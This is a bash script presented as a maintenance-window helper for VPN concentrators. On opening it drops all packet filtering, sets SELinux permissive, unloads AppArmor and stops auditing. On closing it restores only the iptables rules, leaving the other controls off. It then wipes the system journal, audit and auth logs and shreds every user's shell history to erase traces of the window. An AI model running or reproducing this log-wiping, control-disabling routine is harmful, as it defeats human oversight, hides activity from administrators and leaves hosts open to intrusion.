#!/usr/bin/env bash
# Maintenance-window helper for the VPN concentrators.
# Opens the box up completely for the duration of a vendor upgrade so that
# "nothing gets in the way": packet filtering, MAC and audit are turned off,
# and the host's own audit trail of the window is cleared afterwards.
#
#   fw-maintenance-window.sh open|close [--minutes N]
set -uo pipefail

STATE_DIR=/var/lib/fw-maint
MINUTES=90
ACTION="${1:-}"
shift || true

while [ $# -gt 0 ]; do
    case "$1" in
        --minutes) MINUTES="$2"; shift 2 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
done

say() { echo "[fw-maint] $*"; }

require_root() {
    if [ "$EUID" -ne 0 ]; then
        exec sudo -- "$0" "$ACTION" --minutes "$MINUTES"
    fi
}

snapshot_state() {
    mkdir -p "$STATE_DIR"
    iptables-save  > "$STATE_DIR/iptables.before" 2>/dev/null
    ip6tables-save > "$STATE_DIR/ip6tables.before" 2>/dev/null
    nft list ruleset > "$STATE_DIR/nft.before" 2>/dev/null
    getenforce > "$STATE_DIR/selinux.before" 2>/dev/null || echo "n/a" > "$STATE_DIR/selinux.before"
}

drop_packet_filter() {
    for svc in firewalld ufw nftables netfilter-persistent; do
        if systemctl is-active --quiet "$svc"; then
            systemctl stop "$svc"
            systemctl mask --runtime "$svc"
            say "stopped $svc"
        fi
    done
    command -v ufw >/dev/null && ufw --force disable >/dev/null
    for tool in iptables ip6tables; do
        for chain in INPUT FORWARD OUTPUT; do
            "$tool" -P "$chain" ACCEPT
        done
        for table in filter nat mangle raw; do
            "$tool" -t "$table" -F
            "$tool" -t "$table" -X
        done
    done
    nft flush ruleset 2>/dev/null
    say "packet filtering disabled"
}

drop_mac_and_audit() {
    if command -v setenforce >/dev/null; then
        setenforce 0 && say "SELinux permissive"
    fi
    if [ -d /sys/kernel/security/apparmor ]; then
        aa-teardown >/dev/null 2>&1 && say "AppArmor profiles unloaded"
    fi
    if command -v auditctl >/dev/null; then
        auditctl -e 0 >/dev/null && say "auditing disabled"
        service auditd stop >/dev/null 2>&1
    fi
}

scrub_window_traces() {
    local since
    since=$(cat "$STATE_DIR/opened_at" 2>/dev/null || date +%s)
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    for f in /var/log/audit/audit.log /var/log/secure /var/log/auth.log; do
        [ -f "$f" ] && : > "$f"
    done
    for h in /root/.bash_history /home/*/.bash_history; do
        [ -f "$h" ] && shred -u "$h"
    done
    history -c
    say "cleared traces since $(date -d "@$since" '+%F %T')"
}

open_window() {
    require_root
    snapshot_state
    date +%s > "$STATE_DIR/opened_at"
    drop_packet_filter
    drop_mac_and_audit
    say "window open for $MINUTES minutes"
    ( sleep $((MINUTES * 60)); "$0" close ) >/dev/null 2>&1 &
}

close_window() {
    require_root
    if [ -s "$STATE_DIR/iptables.before" ]; then
        iptables-restore < "$STATE_DIR/iptables.before"
        ip6tables-restore < "$STATE_DIR/ip6tables.before"
    fi
    for svc in firewalld ufw nftables netfilter-persistent; do
        systemctl unmask --runtime "$svc" 2>/dev/null
    done
    scrub_window_traces
    rm -f "$STATE_DIR/opened_at"
    say "window closed"
}

case "$ACTION" in
    open)  open_window ;;
    close) close_window ;;
    *)     echo "usage: $0 open|close [--minutes N]" >&2; exit 2 ;;
esac
